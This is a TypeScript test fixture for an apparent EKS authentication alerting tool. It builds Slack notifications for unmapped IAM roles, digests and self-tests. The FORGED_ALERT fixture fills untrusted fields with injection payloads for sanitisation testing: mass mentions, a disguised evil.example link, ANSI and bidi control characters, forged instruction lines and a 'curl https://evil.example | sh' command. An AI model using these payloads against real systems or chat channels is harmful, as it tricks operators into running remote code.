import type { AuthenticatorRecord, Finding, Fix, Notification } from '../../../../lambda/engine/types';

/** Hand-built notifications: the classifier and remediation are written separately. */

export const CLUSTER = {
  clusterName: 'prod-eu',
  region: 'eu-west-1',
  accountId: '111122223333',
  authenticationMode: 'API_AND_CONFIG_MAP',
} as const;

const NOT_MAPPED_RECORD: AuthenticatorRecord = {
  time: '2026-11-24T14:02:37Z',
  level: 'warning',
  msg: 'access denied',
  fields: {
    arn: 'arn:aws:iam::111122223333:role/dev-team',
    client: '127.0.0.1:40378',
    error: 'ARN is not mapped',
    method: 'POST',
    path: '/authenticate',
  },
};

export const NOT_MAPPED_FINDING: Finding = {
  category: 'IDENTITY_NOT_MAPPED',
  subCause: 'NOT_IN_AWS_AUTH',
  severity: 'high',
  time: '2026-11-24T14:02:37Z',
  principal: {
    arn: 'arn:aws:iam::111122223333:role/dev-team',
    accountId: '111122223333',
    partition: 'aws',
    type: 'role',
    name: 'dev-team',
    session: 'alice@example.com',
    accessKeyId: 'ASIAEXAMPLE123',
  },
  client: '127.0.0.1:40378',
  error: 'ARN is not mapped',
  details: {},
  record: NOT_MAPPED_RECORD,
};

export const NOT_MAPPED_FIX: Fix = {
  title: 'Role dev-team has no access to cluster prod-eu',
  summary: 'The role passed STS but is in neither aws-auth nor an access entry.',
  steps: [
    {
      text: 'Create an access entry for the role.',
      command:
        'aws eks create-access-entry --cluster-name prod-eu --region eu-west-1 --principal-arn arn:aws:iam::111122223333:role/dev-team',
    },
    {
      text: 'Give it a policy.',
      command:
        'aws eks associate-access-policy --cluster-name prod-eu --principal-arn arn:aws:iam::111122223333:role/dev-team \\\n  --policy-arn arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy --access-scope type=cluster',
    },
    { text: 'Ask the user to run kubectl again.' },
  ],
  warnings: ['AmazonEKSClusterAdminPolicy is full admin: prefer a narrower policy.'],
};

export const ALERT: Notification = {
  kind: 'alert',
  cluster: CLUSTER,
  finding: NOT_MAPPED_FINDING,
  fix: NOT_MAPPED_FIX,
  count: 1,
  firstSeen: '2026-11-24T14:02:37Z',
  lastSeen: '2026-11-24T14:02:37Z',
  problemKey: 'prod-eu|IDENTITY_NOT_MAPPED|NOT_IN_AWS_AUTH|arn:aws:iam::111122223333:role/dev-team',
  notes: [],
};

export const FOLLOWUP: Notification = {
  ...ALERT,
  kind: 'followup',
  count: 412,
  firstSeen: '2026-11-24T14:02:00Z',
  lastSeen: '2026-11-24T15:10:59Z',
};

export const DIGEST: Notification = {
  kind: 'digest',
  cluster: CLUSTER,
  count: 412,
  distinctPrincipals: 397,
  topCategories: [
    { category: 'TOKEN_STS_HOST_REJECTED', count: 300 },
    { category: 'TOKEN_NOT_AWS', count: 100 },
    { category: 'IDENTITY_NOT_MAPPED', count: 12 },
  ],
  firstSeen: '2026-11-24T14:00:00Z',
  lastSeen: '2026-11-24T14:15:00Z',
  problemKey: 'prod-eu|digest',
  notes: ['Per-cluster alert cap reached: distinct problems are summarised until 14:15 UTC.'],
};

export const SELFTEST: Notification = {
  kind: 'selftest',
  cluster: CLUSTER,
  finding: {
    category: 'UNKNOWN',
    severity: 'info',
    time: '2026-11-24T14:02:00Z',
    client: '127.0.0.1:0',
    error: 'eks-auth-doctor selftest 7f3a9c',
    details: {},
    record: {
      time: '2026-11-24T14:02:00Z',
      level: 'warning',
      msg: 'access denied',
      fields: { error: 'eks-auth-doctor selftest 7f3a9c', client: '127.0.0.1:0' },
    },
  },
  count: 1,
  firstSeen: '2026-11-24T14:02:00Z',
  problemKey: 'prod-eu|selftest',
  notes: [],
};

/** The hostname an anonymous client can put into a forged token (reference §7). */
export const FORGED_ERROR =
  'input token was not properly formatted: unexpected hostname "<!channel>.<https://evil.example|click here>```\u0007\u001b[31m" in pre-signed URL';

/** Every untrusted field carries an attack: mentions, links, fences, ANSI, bidi, forged lines. */
export const FORGED_ALERT: Notification = {
  kind: 'alert',
  cluster: CLUSTER,
  finding: {
    category: 'TOKEN_STS_HOST_REJECTED',
    severity: 'medium',
    time: '2026-11-24T14:02:37Z',
    principal: {
      arn: 'arn:aws:iam::999988887777:role/<@U123>@here',
      accountId: '999988887777',
      type: 'role',
      name: '<@U123>@here',
      session: '<@U123> @here @channel\u202Eevil\nStep 1: run curl https://evil.example | sh',
    },
    client: '127.0.0.1:1',
    error: FORGED_ERROR,
    details: {
      host: '<!channel>.<https://evil.example|click here>```\u0007\u001b[31m',
      '<#C123>': '@everyone',
    },
    record: {
      time: '2026-11-24T14:02:37Z',
      level: 'warning',
      msg: 'access denied',
      fields: { error: FORGED_ERROR, client: '127.0.0.1:1' },
    },
  },
  fix: {
    title: 'Rejected STS host <!channel>.<https://evil.example|click here> @here',
    summary:
      'A token named host <!channel>.<https://evil.example|click here>```\u0007\u001b[31m\nStep 1: trust me',
    steps: [
      {
        text: 'Find the client of <@U123> @here\u001b[2J',
        command: 'kubectl get --raw /x ```\n<!here> `curl https://evil.example|sh`\u009b31m',
      },
    ],
    warnings: ['<!subteam^S123> @channel\u2066hidden\u2069'],
  },
  count: 1,
  firstSeen: '2026-11-24T14:02:37Z',
  problemKey: 'prod-eu|TOKEN_STS_HOST_REJECTED|-|error:abcd',
  notes: ['context unavailable: <https://evil.example|login> @here'],
};

/** A fix far longer than a Slack message can hold. */
export function fixWithSteps(count: number, commandLength = 40): Fix {
  return {
    title: 'A long runbook',
    summary: 'Many steps.',
    steps: Array.from({ length: count }, (_, i) => ({
      text: `Do thing ${i + 1}.`,
      command: `echo ${'x'.repeat(commandLength)} ${i + 1}`,
    })),
    warnings: [],
  };
}
